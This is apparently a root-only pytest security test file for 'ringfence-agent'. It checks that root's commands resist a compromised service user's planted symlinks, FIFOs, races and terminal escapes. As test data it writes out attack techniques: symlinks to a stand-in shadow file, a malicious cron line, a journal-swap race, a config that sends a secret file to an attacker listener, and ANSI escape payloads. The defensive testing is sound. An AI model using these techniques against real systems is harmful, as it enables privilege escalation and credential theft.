"""``ringfence-agent`` run as root on the state directory of the agent the unit runs as its own
user (a uid no account has stands in: tests/systemdunit.py), that user compromised (security
review r14): it plants links, FIFOs and files in its directory for root's command to follow. Root
does no file work there: the command executes itself again as the directory's owner, as the unit
starts the agent (agent/ringfence_agent/asowner.py), so whatever it follows it follows with that
user's rights. Real CLI as root, subprocesses; the dry-run backend (the kernel is beside the
point); the victims are dummy root files under pytest's tmp_path; the one daemon that talks to a
"control plane" runs in a throwaway network namespace."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.agent.bundles import GOLDEN, PUBLIC_KEY
from tests.agentproc import BIN
from tests.systemdunit import STAND_IN_GID, STAND_IN_UID, reachable_dir

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("setpriv") is None, reason="needs root (the operator) and setpriv"
)

USER = (STAND_IN_UID, STAND_IN_GID)  # the agent's user, compromised
AGENT = str(BIN / "ringfence-agent")
BUNDLE = GOLDEN / "bundle-ord-prod-proc-1.json"
DELTA = GOLDEN / "delta-ord-prod-proc-1-scale-out.json"
SECRET = "root:SECRETHASH:19000:0:99999:7:::\n"


@pytest.fixture
def scratch() -> Iterator[Path]:
    with reachable_dir("rf-asowner-") as made:
        yield made


@pytest.fixture
def state(scratch: Path) -> Path:
    """As systemd makes StateDirectory= for User=: the user's, 0700."""
    made = scratch / "state"
    made.mkdir(mode=0o700)
    os.chown(made, *USER)
    return made


def _victim(where: Path, name: str = "shadow", text: str = SECRET) -> Path:
    """A root file of root's only (a stand-in for /etc/shadow)."""
    where.mkdir(parents=True, exist_ok=True)
    path = where / name
    path.write_text(text)
    path.chmod(0o600)
    return path


def _plant_link(link: Path, target: Path) -> None:
    """What the agent's user can do in its own directory: a symlink of its own."""
    link.symlink_to(target)
    os.lchown(link, *USER)


def _plant(path: Path, text: str) -> None:
    path.write_text(text)
    os.chown(path, *USER)


def _root(*args: str, timeout: float = 60, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """The operator's command, as root."""
    return subprocess.run([AGENT, *args], capture_output=True, text=True, timeout=timeout, env=env)


def _apply(state: Path, bundle: Path = BUNDLE, key: Path = PUBLIC_KEY) -> subprocess.CompletedProcess[str]:
    return _root(
        "apply", "--backend", "dry-run", "--state-dir", str(state), "--public-key", str(key), "--bundle", str(bundle)
    )


def _unchanged(victim: Path) -> None:
    st = victim.lstat()
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (0, 0, 0o600), victim
    assert victim.read_text() == SECRET


def _not_the_owners(state: Path) -> list[str]:
    return [
        f"{p} {p.lstat().st_uid}:{p.lstat().st_gid}"
        for p in [state, *state.rglob("*")]
        if (p.lstat().st_uid, p.lstat().st_gid) != USER
    ]


def test_attack_a_planted_lock_link_does_not_give_root_files_to_the_agents_user(state: Path, tmp_path: Path) -> None:
    """F1: ``.lock`` a link to a root file: root's apply chowned it to the agent's user (and made
    the target of a dangling link, the user's)."""
    victim = _victim(tmp_path / "victim")
    _plant_link(state / ".lock", victim)
    out = _apply(state)
    assert out.returncode == 0, out.stderr  # the lock falls back to the directory itself
    _unchanged(victim)

    (state / ".lock").unlink()
    dangling = tmp_path / "victim" / "new-cron"
    _plant_link(state / ".lock", dangling)
    _apply(state)
    assert not dangling.exists()


def test_attack_a_planted_rejected_link_does_not_move_the_agents_files_into_a_root_directory(
    state: Path, tmp_path: Path
) -> None:
    """F3: a corrupt ``bundle.json`` and ``rejected`` a link to a root directory (``/etc/cron.d``):
    root's apply set the attacker's file aside into it."""
    cron = tmp_path / "etc-cron.d"
    cron.mkdir(mode=0o755)
    _plant(state / "bundle.json", "* * * * * root id > /tmp/pwned\n")
    _plant_link(state / "rejected", cron)
    _apply(state)
    assert list(cron.iterdir()) == []


def test_attack_a_journal_link_does_not_let_root_write_a_root_file(state: Path, tmp_path: Path) -> None:
    """F5: ``deltas.jsonl`` swapped for a link to a root file between root's apply-delta reading
    the journal and appending to it: the target was truncated to the journal's length and
    written. The race won every time: the delta comes through a FIFO, and the journal is swapped
    once root's command has opened it (after reading the journal, before the append)."""
    assert _apply(state).returncode == 0
    victim = _victim(tmp_path / "victim")
    fifo = tmp_path / "delta.fifo"
    os.mkfifo(fifo, 0o600)
    journal = state / "deltas.jsonl"
    args = ["--backend", "dry-run", "--state-dir", str(state), "--public-key", str(PUBLIC_KEY), "--delta", str(fifo)]
    proc = subprocess.Popen([AGENT, "apply-delta", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        with fifo.open("wb") as w:  # returns once root's command opened it
            journal.rename(state / "deltas.jsonl.moved")
            _plant_link(journal, victim)
            w.write(DELTA.read_bytes())
        proc.communicate(timeout=60)
    finally:
        proc.kill()
    _unchanged(victim)


def test_attack_root_never_runs_on_a_last_good_config_the_agents_user_wrote(scratch: Path, tmp_path: Path) -> None:
    """F6: root's ``run`` with a config that does not load fell back to ``config.last-good.json``
    in the agent's directory: the attacker's settings, run as root: pairing_key_file a root file,
    api_url its listener, which got the file. Both ways: on the agent's directory (root becomes
    the agent's user, who cannot read the file), and a planted last good on a directory of
    root's (not loaded). In a throwaway network namespace, the listener in it."""
    victim = _victim(tmp_path / "victim")
    ns = f"rf-asowner-{os.getpid()}"
    subprocess.run(["ip", "netns", "add", ns], check=True)
    listener = None
    try:
        subprocess.run(["ip", "netns", "exec", ns, "ip", "link", "set", "lo", "up"], check=True)
        seen = scratch / "listener.out"
        listener = subprocess.Popen(
            ["ip", "netns", "exec", ns, sys.executable, "-c", LISTENER, "8099", str(seen)], stderr=subprocess.PIPE
        )
        for owner in (USER, (0, 0)):
            state = scratch / f"state-{owner[0]}"
            state.mkdir(mode=0o700)
            os.chown(state, *owner)
            doc = {
                "from": "/etc/ringfence/agent.json",
                "config": {
                    "workload_id": "ord-prod-proc-1",
                    "public_key": str(PUBLIC_KEY),
                    "state_dir": str(state),
                    "backend": "dry-run",
                    "api_url": "http://127.0.0.1:8099",
                    "enroll": {"method": "pairing", "pairing_key_file": str(victim)},
                },
            }
            _plant(state / "config.last-good.json", json.dumps(doc))
            broken = scratch / "agent.json"
            broken.write_text("{ broken")
            run = [AGENT, "run", "--config", str(broken), "--state-dir", str(state), "--backend", "dry-run"]
            proc = subprocess.Popen(["ip", "netns", "exec", ns, *run], stderr=subprocess.PIPE, text=True)
            time.sleep(6)
            proc.terminate()
            _, err = proc.communicate(timeout=30)
            if owner == (0, 0):
                assert "not loaded" in err and "owned by uid" in err, err
            got = seen.read_text() if seen.exists() else ""
            assert "SECRETHASH" not in got, got
            _unchanged(victim)
    finally:
        if listener is not None:
            listener.terminate()
            listener.wait(timeout=10)
        subprocess.run(["ip", "netns", "del", ns], check=False)


# the attacker's "control plane": answers a nonce, keeps every request it gets
LISTENER = """
import http.server, json, sys
class H(http.server.BaseHTTPRequestHandler):
    def _reply(self, doc):
        b = json.dumps(doc).encode(); self.send_response(200)
        self.send_header("Content-Type", "application/json"); self.send_header("Content-Length", str(len(b)))
        self.end_headers(); self.wfile.write(b)
    def _keep(self, body):
        with open(sys.argv[2], "a") as f:
            f.write(self.command + " " + self.path + " " + body + "\\n")
    def do_GET(self):
        self._keep(""); self._reply({"nonce": "n" * 32})
    def do_POST(self):
        self._keep(self.rfile.read(int(self.headers.get("Content-Length", 0))).decode(errors="replace"))
        self._reply({})
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
"""


def test_attack_a_fifo_or_dev_zero_in_the_state_directory_does_not_hang_roots_commands(
    scratch: Path, state: Path
) -> None:
    """F7: ``agent-key.pem`` a FIFO (status hung for good) or a link to /dev/zero (status read
    until memory ran out); ``config.last-good.json`` a FIFO (``run --once`` hung)."""
    os.mkfifo(state / "agent-key.pem")
    os.chown(state / "agent-key.pem", *USER)
    out = _root("status", "--backend", "dry-run", "--state-dir", str(state), "--json", timeout=30)
    assert out.returncode == 0 and "unreadable" in json.loads(out.stdout)["agent_key"], out.stderr
    (state / "agent-key.pem").unlink()
    _plant_link(state / "agent-key.pem", Path("/dev/zero"))
    out = _root("status", "--backend", "dry-run", "--state-dir", str(state), "--json", timeout=30)
    assert out.returncode == 0 and "unreadable" in json.loads(out.stdout)["agent_key"], out.stderr

    os.mkfifo(state / "config.last-good.json")
    os.chown(state / "config.last-good.json", *USER)
    config = scratch / "agent.json"
    doc = {
        "workload_id": "ord-prod-proc-1",
        "public_key": str(PUBLIC_KEY),
        "state_dir": str(state),
        "backend": "dry-run",
        "source": str(scratch / "no-source-yet"),
        "admin_cidrs": [],
        "control_plane": ["10.9.9.9"],
    }
    config.write_text(json.dumps(doc))
    out = _root("run", "--once", "--config", str(config), timeout=30)
    assert "Traceback" not in out.stderr, out.stderr
    assert (state / "config.last-good.json").is_file()  # replaced by the last good configuration


def test_attack_terminal_escapes_in_status_json_do_not_reach_roots_terminal(state: Path) -> None:
    """F8: ``status`` (text) printed status.json's strings raw: a title-setting OSC, a screen
    clear, hidden text, planted by the agent's user, reached root's terminal."""
    doc = {"last_error": "\x1b]0;owned-title\x07\x1b[2J\x1b[Hall good, nothing to see", "last_cut": "x\x9bq\u202e"}
    _plant(state / "status.json", json.dumps(doc))
    out = _root("status", "--backend", "dry-run", "--state-dir", str(state))
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout and "\x07" not in out.stdout and "\x9b" not in out.stdout, out.stdout
    assert "\u202e" not in out.stdout
    assert "last_error: \\x1b]0;owned-title\\x07\\x1b[2J\\x1b[Hall good" in out.stdout, out.stdout


def test_a_config_only_root_may_read_is_passed_open_and_keeps_its_name(scratch: Path, state: Path) -> None:
    """``run --config`` of root's 0600: the owner may not open it, root passes it open; it keeps
    its own name (the last good configuration says where it came from) and its directory."""
    config = scratch / "agent.json"
    doc = {
        "workload_id": "ord-prod-proc-1",
        "public_key": str(PUBLIC_KEY),
        "state_dir": "state",  # relative to the file's directory, not /dev/fd
        "backend": "dry-run",
        "source": str(scratch / "no-source-yet"),
        "admin_cidrs": [],
        "control_plane": ["10.9.9.9"],
    }
    config.write_text(json.dumps(doc))
    config.chmod(0o600)
    out = _root("run", "--once", "--config", str(config))
    assert f"skuid {STAND_IN_UID}" in out.stdout, out.stdout + out.stderr
    kept = json.loads((state / "config.last-good.json").read_text())
    assert kept["from"] == str(config) and kept["config"]["state_dir"] == str(state), kept
    assert _not_the_owners(state) == []


def test_a_bundle_only_root_may_read_applies_passed_open(state: Path, tmp_path: Path) -> None:
    """The bundle and the pinned key root's 0600 in a 0700 directory: the agent's user may not
    open them, root passes them open (/dev/fd/N) and the owner reads them from the descriptor."""
    private = tmp_path / "private"
    private.mkdir(mode=0o700)
    bundle, key = private / "bundle.json", private / "key.pem"
    shutil.copy(BUNDLE, bundle)
    shutil.copy(PUBLIC_KEY, key)
    bundle.chmod(0o600)
    key.chmod(0o600)
    out = _apply(state, bundle, key)
    assert out.returncode == 0, out.stderr
    assert (state / "bundle.json").stat().st_uid == STAND_IN_UID
    assert json.loads((state / "bundle.json").read_text())["version"] == 1


def test_without_setpriv_root_refuses_and_writes_nothing(state: Path, tmp_path: Path) -> None:
    """No setpriv to become the owner: refused, naming the directory and its owner; never done as
    root (nothing written)."""
    bare = tmp_path / "bin"
    bare.mkdir()
    env = {**os.environ, "PATH": str(bare)}
    out = _root(
        "apply", "--backend", "dry-run", "--state-dir", str(state), "--public-key", str(PUBLIC_KEY),
        "--bundle", str(BUNDLE), env=env,
    )  # fmt: skip
    assert out.returncode == 1, out.stdout + out.stderr
    assert f"the state directory {state} is owned by {STAND_IN_UID}:{STAND_IN_GID}" in out.stderr, out.stderr
    assert "setpriv" in out.stderr
    assert list(state.iterdir()) == []


def test_a_symlinked_state_directory_is_refused_as_root(scratch: Path, state: Path) -> None:
    """Whose directory a link names is not the link's owner's to say: refused, nothing written."""
    link = scratch / "link"
    _plant_link(link, state)
    out = _apply(link)
    assert out.returncode == 1 and "is a symbolic link" in out.stderr, out.stderr
    assert list(state.iterdir()) == []
